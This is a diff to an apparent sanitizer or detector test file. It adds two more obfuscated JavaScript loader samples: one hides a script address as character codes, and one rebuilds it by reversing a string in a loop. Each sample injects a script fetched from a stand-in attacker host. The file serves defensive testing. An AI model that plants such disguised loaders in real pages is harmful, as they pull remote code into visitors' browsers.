@@ -43,6 +43,7 @@ SLICED = (
     "var q=['pt','scri','ment','Ele','ate','cre','/a.js','xample','hat.e','//ja'],z=function("
     "a,b){return q.slice(a,b).reverse().join('')};var s=document[z(2,6)](z(0,2));s.src=z(6,10)"
 )
+BACKWARDS = f"var t='{EVIL[::-1]}',o='';for(var i=t.length-1;i>=0;i--)o+=t.charAt(i);"
 HANDED_OVER = (
     f"var o={{d:[{codes('script')}],u:[{codes(EVIL + '/a.js')}]}};(function(p){{var f=String."
     "fromCharCode,e=document.createElement(f.apply(null,p.d));e.src=f.apply(null,p.u);"
@@ -82,6 +83,9 @@ LOADERS = [
     (OLD.format("['pt','/a.js','xample','hat.e','//ja'].slice(1,5).reverse().join('')"), ""),
     (SLICED, ""),
     (HANDED_OVER, ""),
+    # Codes as digits in a text, and an address that a loop turns round.
+    (OLD.format(f"String.fromCharCode.apply(null,'{codes(EVIL + '/a.js')}'.split(','))"), ""),
+    (BACKWARDS + OLD.format("o"), ""),
     *((source, "") for source in CONTENTS),
 ]
 
